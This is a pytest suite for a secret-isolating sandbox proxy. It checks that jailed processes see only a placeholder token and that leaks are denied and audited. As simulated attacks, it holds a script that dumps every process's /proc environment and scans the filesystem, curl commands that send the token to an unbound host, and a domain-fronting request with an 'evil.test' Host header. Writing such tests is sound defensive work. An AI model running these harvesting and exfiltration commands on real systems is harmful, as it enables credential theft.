"""--secret: the jail can use a secret but never read it. Real jails (both modes), as the non-root test user,
against a loopback TLS mock that records what it receives. The attacks: read the value from the environment,
/proc of every process the jail can see and every file it can read; send the placeholder (or the real value)
to a host the secret is not bound to, in a header, the query and the body."""

from __future__ import annotations

import base64
import gzip
import hashlib
import json
import os
import secrets
import socket
import ssl
import string
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from tests.support import (
    CA,
    RunResult,
    Upstream,
    audit_path,
    boundary_cmd,
    boundary_env,
    boundary_run,
    serve_loopback,
    server_tls,
    wait_for,
)

MODES = ("nsjail", "landjail")
PY = sys.executable


@dataclass
class Got:
    host: str
    method: str
    path: str
    headers: dict[str, str]
    body_len: int
    body_tail: bytes


@dataclass
class Mock:
    """HTTPS on 127.0.0.1 for secure.test and other.test: records each request (the body's length and last
    bytes only: a large upload is never held), answers GET /echo with the Authorization it got."""

    ctx: ssl.SSLContext
    got: list[Got] = field(default_factory=list)
    port: int = 0

    def start(self) -> Mock:
        self.sock = serve_loopback(self._serve)
        self.port = self.sock.getsockname()[1]
        return self

    def _serve(self, raw: socket.socket) -> None:
        raw.settimeout(60)
        try:
            with self.ctx.wrap_socket(raw, server_side=True) as conn, conn.makefile("rb") as f:
                while line := f.readline(65536):
                    method, path, _ = line.decode("latin-1").split(" ", 2)
                    headers: dict[str, str] = {}
                    while (h := f.readline(65536)) not in (b"\r\n", b"\n", b""):
                        k, _, v = h.decode("latin-1").partition(":")
                        headers[k.strip().lower()] = v.strip()
                    n, tail = self._body(f, headers)
                    self.got.append(Got(headers.get("host", ""), method, path, headers, n, tail))
                    out = json.dumps({"authorization": headers.get("authorization", ""), "received": n}).encode()
                    coding = b""
                    if path.startswith("/gzip"):  # compressed whatever the client asked for
                        out, coding = gzip.compress(out), b"Content-Encoding: gzip\r\n"
                    if path.startswith("/te-gzip"):  # compressed as a transfer coding
                        z = gzip.compress(out)
                        conn.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n%x\r\n%s\r\n0\r\n\r\n"
                                     % (len(z), z))  # fmt: skip
                        continue
                    conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n%sContent-Length: %d\r\n\r\n"
                                 % (coding, len(out)) + out)  # fmt: skip
        except (OSError, ValueError, ssl.SSLError):
            return

    @staticmethod
    def _body(f: object, headers: dict[str, str]) -> tuple[int, bytes]:
        n, tail = 0, b""

        def take(k: int) -> None:
            nonlocal n, tail
            while k > 0:
                data = f.read(min(k, 1 << 16))  # type: ignore[attr-defined]
                if not data:
                    raise ValueError("short body")
                n, k, tail = n + len(data), k - len(data), (tail + data)[-256:]

        if headers.get("transfer-encoding", "").lower() == "chunked":
            while size := int(f.readline(100).split(b";")[0], 16):  # type: ignore[attr-defined]
                take(size)
                f.readline(10)  # type: ignore[attr-defined]
            f.readline(10)  # type: ignore[attr-defined]
        else:
            take(int(headers.get("content-length", "0")))
        return n, tail


@pytest.fixture(scope="module")
def mock(ca: CA) -> Iterator[Mock]:
    m = Mock(server_tls(ca)).start()
    yield m
    m.sock.close()


def new_value() -> str:
    return "sk-test-" + "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(48))


def run(
    tmp: Path, ca: CA, mock: Mock, mode: str, script: str, value: str, *extra: str, env: dict[str, str] | None = None
) -> RunResult:
    return boundary_run(
        tmp, "--jail-type", mode, "--allow-private", "--upstream-ca", str(ca.ca_pem),
        "--host-map", "secure.test=127.0.0.1", "--host-map", "other.test=127.0.0.1",
        "--allow", f"domain=secure.test port={mock.port}",
        "--allow", f"domain=other.test port={mock.port} method=GET,POST",  # inspected, so the proxy sees it all
        "--secret", "MY_TOKEN=secure.test", *extra, "--workspace", str(tmp), "--", "sh", "-c", script,
        env={"MY_TOKEN": value, "PORT": str(mock.port), **(env or {})}, cwd=tmp,
    )  # fmt: skip


def leaks(r: RunResult) -> list[dict[str, object]]:
    return [x for x in r.audit_records() if x["event"] == "secret_leak"]


# everything the jail can read that could hold it: every process's environment and command line, and the files
# outside the system directories (those boundary never writes), dumped for the test to search outside the jail
DUMP = r"""
import os, sys
out = open(sys.argv[1], "wb")
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for what in ("environ", "cmdline"):
            try:
                out.write(open(f"/proc/{pid}/{what}", "rb").read() + b"\n")
            except OSError:
                pass
skip = ("/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/boot", sys.argv[1])
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
    for f in files:
        p = os.path.join(root, f)
        try:
            if os.path.isfile(p) and not os.path.islink(p) and os.path.getsize(p) < 64 << 20:
                with open(p, "rb") as fh:
                    out.write(p.encode() + b"\n" + fh.read() + b"\n")
        except OSError:
            pass
"""


@pytest.mark.parametrize("mode", MODES)
def test_the_bound_host_gets_the_value_and_the_jail_never_sees_it(
    tmp_path: Path, ca: CA, mock: Mock, mode: str
) -> None:
    value = new_value()
    (tmp_path / "dump.py").write_text(DUMP)
    script = (
        "echo env=$MY_TOKEN; "
        f"{PY} -c \"import sys; sys.stdout.write(open('/proc/self/environ').read().replace(chr(0), chr(10)))\" "
        "| grep '^MY_TOKEN='; "
        'curl -sS --max-time 30 -H "Authorization: Bearer $MY_TOKEN" "https://secure.test:$PORT/echo?k=$MY_TOKEN"; '
        f"echo; {PY} dump.py dump.bin"
    )
    r = run(tmp_path, ca, mock, mode, script, value)
    assert r.returncode == 0, r.stderr
    placeholder = r.stdout.split("env=", 1)[1].split()[0]
    assert placeholder.startswith("boundary-secret-")
    assert len(placeholder) == len(value)
    assert f"MY_TOKEN={placeholder}" in r.stdout
    got = [g for g in mock.got if f"k={value}" in g.path]
    assert got, r.stdout  # the mock got the real value in the URL and the header
    assert got[-1].headers["authorization"] == f"Bearer {value}"
    assert json.loads(r.stdout.splitlines()[2])["authorization"] == f"Bearer {placeholder}"  # its echo, hidden
    assert value not in r.stdout
    assert value not in r.stderr
    dump = (tmp_path / "dump.bin").read_bytes()
    assert b"MY_TOKEN=" + placeholder.encode() in dump  # the dump did read environments
    assert value.encode() not in dump
    assert value.encode() not in r.audit.read_bytes()


@pytest.mark.parametrize("mode", MODES)
def test_the_placeholder_sent_elsewhere_is_denied_and_audited(tmp_path: Path, ca: CA, mock: Mock, mode: str) -> None:
    value = new_value()
    before = len(mock.got)
    base = '"https://other.test:$PORT'
    script = (
        f'curl -sS --max-time 30 -H "X-Api-Key: $MY_TOKEN" {base}/in-header"; echo " rc=$?"; '
        f'curl -sS --max-time 30 {base}/in-query?q=$MY_TOKEN"; echo " rc=$?"; '
        f"{PY} -c \"import sys; sys.stdout.write('x' * 200000 + sys.argv[1] + 'y' * 1000)\" $MY_TOKEN > body; "
        f'curl -sS --max-time 30 --data-binary @body {base}/in-body"; echo " rc=$?"; '
        f'curl -sS --max-time 30 {base}/clean"; echo " rc=$?"'
    )
    r = run(tmp_path, ca, mock, mode, script, value)
    assert r.returncode == 0, r.stderr
    found = leaks(r)
    assert {str(x["path"]) for x in found} == {"/in-header", "/in-query", "/in-body"}, found
    assert all(x["secret"] == "MY_TOKEN" and x["decision"] == "deny" for x in found)
    assert r.stdout.count("secret_leak") >= 2  # the 403s for the header and the query say why
    got = mock.got[before:]
    assert [g.path for g in got if g.host.startswith("other.test")] == ["/clean"]  # no request with it arrived
    assert "secret_leak" in r.stderr
    assert "no --allow rule allows" not in r.stderr
    assert value not in r.audit.read_text()


@pytest.mark.parametrize("mode", MODES)
def test_no_value_crosses_the_network_in_clear(tmp_path: Path, ca: CA, mock: Mock, plain: Upstream, mode: str) -> None:
    """Plain HTTP to the bound host: the placeholder is not swapped in (the value would cross the network in
    clear); the request is denied as a leak."""
    value = new_value()
    script = f'curl -sS --max-time 30 -H "Authorization: Bearer $MY_TOKEN" http://secure.test:{plain.port}/clear'
    r = run(tmp_path, ca, mock, mode, script, value, "--allow", f"domain=secure.test port={plain.port}")
    assert "over plain HTTP" in r.stdout, (r.stdout, r.stderr)
    assert plain.last_request_path != "/clear"
    assert [x["secret"] for x in leaks(r)] == ["MY_TOKEN"]


@pytest.mark.parametrize("mode", MODES)
def test_the_real_value_is_denied_even_to_its_own_host(tmp_path: Path, ca: CA, mock: Mock, mode: str) -> None:
    value = new_value()
    (tmp_path / "left-readable").write_text(value + "\n")
    script = 'curl -sS --max-time 30 -H "Authorization: Bearer $(cat left-readable)" https://secure.test:$PORT/real'
    r = run(tmp_path, ca, mock, mode, script, value)
    assert "secret_leak: the real value of MY_TOKEN" in r.stdout
    assert not [g for g in mock.got if g.path == "/real"]
    assert [x["secret"] for x in leaks(r)] == ["MY_TOKEN"]


@pytest.mark.parametrize("mode", MODES)
def test_a_100_mib_upload_streams_with_bounded_memory(tmp_path: Path, ca: CA, mock: Mock, mode: str) -> None:
    """+body: the placeholder at the end of a 100 MiB body is swapped as it streams; nothing holds the body."""
    value = new_value()
    size = 100 << 20
    script = (
        f"{PY} -c \"import sys; o = sys.stdout.buffer; [o.write(b'z' * (1 << 20)) for _ in range({size >> 20})]; "
        f'o.write(sys.argv[1].encode())" $MY_TOKEN > upload; '
        'curl -sS --max-time 120 -H "Content-Type: application/octet-stream" --data-binary @upload '
        "https://secure.test:$PORT/upload"
    )
    args = (
        "--jail-type", mode, "--allow-private", "--upstream-ca", str(ca.ca_pem), "--host-map", "secure.test=127.0.0.1",
        "--allow", f"domain=secure.test port={mock.port}", "--secret", "MY_TOKEN=secure.test,+body",
        "--workspace", str(tmp_path), "--", "sh", "-c", script,
    )  # fmt: skip
    # boundary's peak memory, and its descendants' (RUSAGE_CHILDREN of a process that only waits for it)
    wrap = "import resource, subprocess, sys; rc = subprocess.run(sys.argv[1:]).returncode; "
    wrap += "print('maxrss', resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr); sys.exit(rc)"
    p = subprocess.run(
        [PY, "-c", wrap, *boundary_cmd(tmp_path, *args)], capture_output=True, text=True, timeout=300, cwd=tmp_path,
        env={**boundary_env(tmp_path), "MY_TOKEN": value, "PORT": str(mock.port)}, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    r = RunResult(p.returncode, p.stdout, p.stderr, audit_path(tmp_path))
    peak_kib = int(r.stderr.rsplit("maxrss ", 1)[1].split()[0])
    assert r.returncode == 0, r.stderr
    got = wait_for(lambda: [g for g in mock.got if g.path == "/upload"])
    assert got[-1].body_len == size + len(value)
    assert got[-1].body_tail.endswith(value.encode())
    assert json.loads(r.stdout)["received"] == size + len(value)
    # boundary with mitmproxy loaded stays well under 200 MiB; a buffered body would add 100 MiB or more
    assert peak_kib < 200 << 10, peak_kib


def test_a_secret_needs_a_value_and_hosts(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if k != "MY_TOKEN"}
    r = boundary_run(tmp_path, "--secret", "MY_TOKEN", "--", "true", env=env)
    assert r.returncode == 125
    assert "name the hosts" in r.stderr or "not set" in r.stderr
    r = boundary_run(tmp_path, "--secret", "MY_TOKEN=api.example.test", "--", "true", env={**env, "MY_TOKEN": "short"})
    assert r.returncode == 125
    assert "at least 16" in r.stderr
    digest = hashlib.sha256(b"short").hexdigest()
    assert digest not in r.stderr


@pytest.mark.parametrize("mode", MODES)
def test_basic_credentials_are_swapped_inside_their_encoding(tmp_path: Path, ca: CA, mock: Mock, mode: str) -> None:
    """git over HTTPS sends a token as the password of Basic credentials (base64)."""
    value = new_value()
    script = 'curl -sS --max-time 30 -u "x-access-token:$MY_TOKEN" https://secure.test:$PORT/basic'
    r = run(tmp_path, ca, mock, mode, script, value)
    assert r.returncode == 0, r.stderr
    got = [g for g in mock.got if g.path == "/basic"]
    assert base64.b64decode(got[-1].headers["authorization"][6:]).decode() == f"x-access-token:{value}"
    echoed = base64.b64decode(json.loads(r.stdout)["authorization"][6:]).decode("latin-1")
    assert value[1:-1] not in echoed  # what the jail reads back is the placeholder (but for a few bits at its ends)
    assert "boundary-secret-"[1:] in echoed


@pytest.mark.parametrize("mode", MODES)
def test_a_client_that_refuses_boundarys_ca_is_named(tmp_path: Path, ca: CA, mock: Mock, mode: str) -> None:
    """A client that trusts only its own roots fails the handshake with boundary; the audit and stderr say why."""
    value = new_value()
    script = (
        f'curl -sS --max-time 30 --cacert {ca.ca_pem} -H "Authorization: Bearer $MY_TOKEN" https://secure.test:$PORT/x'
    )
    r = run(tmp_path, ca, mock, mode, script, value)
    assert r.returncode != 0
    assert "refused boundary's certificate" in r.stderr
    assert "MY_TOKEN cannot be swapped in" in r.stderr
    assert [x for x in r.audit_records() if "refused boundary's certificate" in str(x["reason"])]


WS_CLIENT = r"""
import base64, os, socket, ssl, sys
host, port, msg = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode()
ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
ctx.set_alpn_protocols(["http/1.1"])
s = ctx.wrap_socket(socket.create_connection((host, port), timeout=30), server_hostname=host)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall(f"GET /ws HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
          f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode())
f = s.makefile("rb")
print(f.readline().decode().strip())
while f.readline() not in (b"\r\n", b""):
    pass
mask = os.urandom(4)
s.sendall(bytes([0x81, 0x80 | len(msg)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(msg)))
s.settimeout(5)
try:
    head = f.read(2)
    print("reply", f.read(head[1] & 0x7F).decode() if len(head) == 2 else "none")
except OSError as e:
    print("reply none", type(e).__name__)
"""


@pytest.mark.parametrize("mode", MODES)
def test_websocket_messages_are_swapped_and_checked(tmp_path: Path, ca: CA, tls: Upstream, mode: str) -> None:
    value = new_value()
    (tmp_path / "ws.py").write_text(WS_CLIENT)
    script = f'{PY} ws.py secure.test $PORT "x$MY_TOKEN"; {PY} ws.py other.test $PORT "y$MY_TOKEN"'
    r = boundary_run(
        tmp_path, "--jail-type", mode, "--allow-private", "--upstream-ca", str(ca.ca_pem),
        "--host-map", "secure.test=127.0.0.1", "--host-map", "other.test=127.0.0.1",
        "--allow", f"domain=secure.test port={tls.port}", "--allow", f"domain=other.test port={tls.port} method=GET",
        "--secret", "MY_TOKEN=secure.test,+body", "--workspace", str(tmp_path), "--", "sh", "-c", script,
        env={"MY_TOKEN": value, "PORT": str(tls.port)}, cwd=tmp_path,
    )  # fmt: skip
    assert r.returncode == 0, r.stderr
    replies = [line for line in r.stdout.splitlines() if line.startswith("reply")]
    assert replies[0].startswith("reply echo:xboundary-secret-"), r.stdout  # the server's echo, hidden again
    assert value not in r.stdout
    assert replies[1].startswith("reply none"), r.stdout  # the message with the placeholder was dropped
    assert f"x{value}".encode() in tls.ws_messages  # the bound host got the real value
    assert not [m for m in tls.ws_messages if m.startswith(b"y")]  # and the other never got the placeholder
    assert [x["scheme"] for x in leaks(r)] == ["wss"]


@pytest.mark.parametrize("mode", MODES)
def test_a_host_header_cannot_take_the_value_elsewhere(
    tmp_path: Path, ca: CA, mock: Mock, plain: Upstream, mode: str
) -> None:
    """Domain fronting through the proxy: a URL for the bound host with another Host header is refused (a front
    end routing by Host would hand the value to that other site)."""
    url = f"http://secure.test:{plain.port}/fronted"
    script = f'curl -sS --max-time 30 -x http://secure.test:3128 -H "Host: evil.test" {url}'
    r = run(tmp_path, ca, mock, mode, script, new_value(), "--allow", f"domain=secure.test port={plain.port},3128")
    # denied for the Host, or (landjail, where the command dialled secure.test:3128 as its proxy) for the URL's
    # authority, which names another port of the host than the connection's
    assert "Host 'evil.test' differs from" in r.stdout or "is not the connection's" in r.stdout, (r.stdout, r.stderr)
    assert plain.last_request_path != "/fronted"


@pytest.fixture(scope="module")
def other_only(ca: CA) -> Iterator[Mock]:
    """HTTPS with a certificate for other.test alone."""
    m = Mock(server_tls(ca, other_only=True)).start()
    yield m
    m.sock.close()


@pytest.mark.parametrize("mode", MODES)
def test_the_upstream_must_prove_the_bound_name_not_the_clients_sni(
    tmp_path: Path, ca: CA, mock: Mock, other_only: Mock, mode: str
) -> None:
    """A connection decided for the bound name whose client sends another SNI: the upstream is still made to prove
    the bound name, so a server that is only other.test never gets the value."""
    p = other_only.port
    script = (
        f"curl -sS -k --max-time 30 --connect-to other.test:{p}:secure.test:{p} -H 'Host: secure.test:{p}' "
        f'-H "Authorization: Bearer $MY_TOKEN" https://other.test:{p}/sni; echo " rc=$?"'
    )
    r = run(tmp_path, ca, mock, mode, script, new_value(), "--allow", f"domain=secure.test port={p}")
    assert not [g for g in other_only.got if g.path == "/sni"], (r.stdout, r.stderr)


@pytest.mark.parametrize("path", ["/gzip", "/te-gzip"])
@pytest.mark.parametrize("mode", MODES)
def test_a_compressed_answer_from_the_bound_host_is_not_passed_on(
    tmp_path: Path, ca: CA, mock: Mock, mode: str, path: str
) -> None:
    """The bound host echoes the swapped header gzip-compressed (although boundary asked for no compression), as
    a content coding or a transfer coding: the value cannot be found in it to hide it, so the answer does not
    reach the jail (the jail's own gunzip of what it got finds no value either)."""
    value = new_value()
    unzip = f"{PY} -c 'import gzip, sys; sys.stdout.write(repr(gzip.decompress(sys.stdin.buffer.read())))'"
    script = (
        f'curl -sS --compressed --max-time 30 -H "Authorization: Bearer $MY_TOKEN" https://secure.test:$PORT{path}; '
        f'curl -sS --max-time 30 -H "Authorization: Bearer $MY_TOKEN" https://secure.test:$PORT{path} | {unzip}'
    )
    r = run(tmp_path, ca, mock, mode, script, value)
    assert value not in r.stdout
    got = [g for g in mock.got if g.path == path]
    assert got[-1].headers.get("accept-encoding") == "identity"  # boundary asked for none
    assert [x for x in r.audit_records() if "gzip-encoded" in str(x["reason"])], r.stderr
